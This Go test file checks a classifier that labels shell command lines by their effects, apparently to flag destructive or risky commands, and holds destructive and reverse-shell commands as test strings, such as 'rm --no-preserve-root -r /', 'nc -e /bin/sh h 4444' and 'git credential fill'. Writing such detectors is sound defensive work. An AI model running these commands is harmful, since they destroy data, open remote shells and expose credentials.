package command

import (
	"slices"
	"strings"
	"testing"
)

// TestG14_DoesReadsEffectsByMeaning checks that what a command does is
// read from its meaning, in every spelling of its options, and that an
// option the grammar does not know hides no effect.
func TestG14_DoesReadsEffectsByMeaning(t *testing.T) {
	tests := []struct {
		argv string
		want Effect
	}{
		{"git push --force", ForcePush},
		{"git push -uf origin main", ForcePush},
		{"git push origin main -f", ForcePush},
		{"git push --force-w", ForcePush},
		{"git -C repo -c a=b push --force-with-lease", ForcePush},
		{"git push origin +main", ForcePush},
		{"git push origin :old", DeletesRemoteRef},
		{"git push --delete origin x", DeletesRemoteRef},
		{"git push --mirror", ForcePush | PushesEverything},
		{"git push --tags", PushesEverything},
		{"git push -o force origin main", 0},
		{"git push origin main", 0},
		{"git reset --hard HEAD~1", DiscardsChanges},
		{"git reset --keep", MayDiscardChanges},
		{"git reset --soft HEAD~1", 0},
		{"git checkout -f main", DiscardsChanges},
		{"git checkout --force main", DiscardsChanges},
		{"git -C repo checkout --forc main", DiscardsChanges},
		{"git checkout -b f main", 0},
		{"git checkout -- .", DiscardsAllChanges},
		{"git checkout main .", DiscardsAllChanges},
		{"git checkout .", 0},
		{"git restore .", DiscardsAllChanges},
		{"git restore --staged .", 0},
		{"git restore --staged --worktree .", DiscardsAllChanges},
		{"git clean -fdx", DeletesUntracked | DeletesIgnored},
		{"git clean -d -x -f", DeletesUntracked | DeletesIgnored},
		{"git clean -fn", 0},
		{"git clean -f --dry-run", 0},
		{"git clean -e -f", 0}, // -f is the pattern excluded
		{"git clean -zf", DeletesUntracked},
		{"git branch -D topic", DeletesUnmergedBranch},
		{"git branch --delete --force topic", DeletesUnmergedBranch},
		{"git branch -d topic", 0},
		{"git stash drop", DiscardsStash},
		{"git stash clear", DiscardsStash},
		{"git stash list", 0},
		{"git reflog expire --expire=now --all", DropsRecoveryPoints},
		{"git update-ref -d refs/heads/x", DeletesRef},
		{"git filter-branch --tree-filter x", RewritesHistory},
		{"git credential fill", PrintsCredentials},
		{"git worktree remove --force w", RemovesWorktree},
		{"git tag -d v1", DeletesOrMovesTag},
		{"git tag -fa v1", DeletesOrMovesTag},
		{"git tag -l", 0},
		{"rm -rf build", RecursiveForce | Recursive},
		{"rm -r --force build", RecursiveForce | Recursive},
		{"rm --recur --forc build", RecursiveForce | Recursive},
		{"rm -vfR build", RecursiveForce | Recursive},
		{"rm -f build", 0},
		{"rm -- -rf", 0},
		{"rm --no-preserve-root -r /", NoPreserveRoot | Recursive},
		{"chmod -R 777 x", Recursive},
		{"crontab -r", RemovesCronJobs},
		{"crontab -u bob -r", RemovesCronJobs},
		{"crontab -u r", 0},
		{"crontab -l", 0},
		{"nc -e /bin/sh h 4444", ConnectsProgram},
		{"nc -lvpe 4444 x", 0}, // -p takes "e" as its value
		{"ncat --sh-exec id h 1", ConnectsProgram},
		{"netcat -c id h 1", ConnectsProgram},
		{"nc -zv h 22", 0},
		{"frobnicate --force", 0},
	}
	for _, tt := range tests {
		if got := Does(strings.Fields(tt.argv)); got != tt.want {
			t.Errorf("Does(%q) = %b, want %b", tt.argv, got, tt.want)
		}
	}
}

// TestG14_ChmodReadsModeAndTargets checks the one reading of chmod's
// words that the exec rules and the first pass share.
func TestG14_ChmodReadsModeAndTargets(t *testing.T) {
	tests := []struct {
		argv    string
		mode    string
		targets string
		rec     bool
	}{
		{"chmod 755 a b", "755", "a b", false},
		{"chmod -R 777 /", "777", "/", true},
		{"chmod -Rv u+x d", "u+x", "d", true},
		{"chmod --recursive a+rwx d", "a+rwx", "d", true},
		{"chmod -w f", "-w", "f", false},
		{"chmod -rwx f", "-rwx", "f", false},
		{"chmod --reference=r f", "", "f", false},
		{"chmod --reference r f", "", "f", false},
		{"chmod -- -w f", "-w", "f", false},
		{"chmod --verbose -c 600 key", "600", "key", false},
		{"chmod", "", "", false},
	}
	for _, tt := range tests {
		ch := Chmod(strings.Fields(tt.argv))
		if ch.Mode != tt.mode || strings.Join(ch.Targets, " ") != tt.targets || ch.Recursive != tt.rec {
			t.Errorf("Chmod(%q) = %+v, want mode %q targets %q recursive %v", tt.argv, ch, tt.mode, tt.targets, tt.rec)
		}
	}
}

// TestG14_KillReadsSignalAndTargets checks the one reading of kill's
// words that the exec rules and the first pass share.
func TestG14_KillReadsSignalAndTargets(t *testing.T) {
	tests := []struct {
		argv, signal, targets string
		list                  bool
	}{
		{"kill 123", "", "123", false},
		{"kill -9 -1", "9", "-1", false},
		{"kill -s KILL 1", "KILL", "1", false},
		{"kill --signal=TERM 1", "TERM", "1", false},
		{"kill -- -1", "", "-1", false},
		{"kill 123 -1", "", "123 -1", false},
		{"kill -l", "", "", true},
		{"kill -0 42", "0", "42", false},
		{"kill %1", "", "%1", false},
	}
	for _, tt := range tests {
		k := Kill(strings.Fields(tt.argv))
		if k.Signal != tt.signal || strings.Join(k.Targets, " ") != tt.targets || k.List != tt.list {
			t.Errorf("Kill(%q) = %+v, want signal %q targets %q list %v", tt.argv, k, tt.signal, tt.targets, tt.list)
		}
	}
}

// TestG14_GitConfigRunsCommand checks the one list of git settings that
// name programs to run.
func TestG14_GitConfigRunsCommand(t *testing.T) {
	for _, k := range []string{"core.sshCommand", "alias.x", "core.hooksPath", "filter.lfs.smudge", "diff.x.textconv", "credential.helper"} {
		if !GitConfigRunsCommand(k) {
			t.Errorf("%s: runs no command", k)
		}
	}
	for _, k := range []string{"user.name", "core.autocrlf", "push.default"} {
		if GitConfigRunsCommand(k) {
			t.Errorf("%s: runs a command", k)
		}
	}
}

// FuzzDoes checks that reading effects and chmod's words never panics and
// that Does is a function of the words.
func FuzzDoes(f *testing.F) {
	for _, s := range []string{"git push -f origin +main", "git checkout -- .", "rm -rf /", "chmod -R 777 /",
		"git clean -zfx", "git -c a=b reset --hard", "chmod --reference", "git stash drop", "rm --no-p -r /"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		argv := strings.Fields(s)
		if len(argv) == 0 {
			return
		}
		a := Does(slices.Clone(argv))
		if b := Does(argv); a != b {
			t.Fatalf("Does(%q) = %b then %b", s, a, b)
		}
		argv[0] = "kill"
		if k := Kill(argv); len(k.Targets) >= len(argv) {
			t.Fatalf("Kill(%q) has %d targets", s, len(k.Targets))
		}
		argv[0] = "chmod"
		ch := Chmod(argv)
		if len(ch.Targets) > len(argv) {
			t.Fatalf("Chmod(%q) has %d targets", s, len(ch.Targets))
		}
	})
}
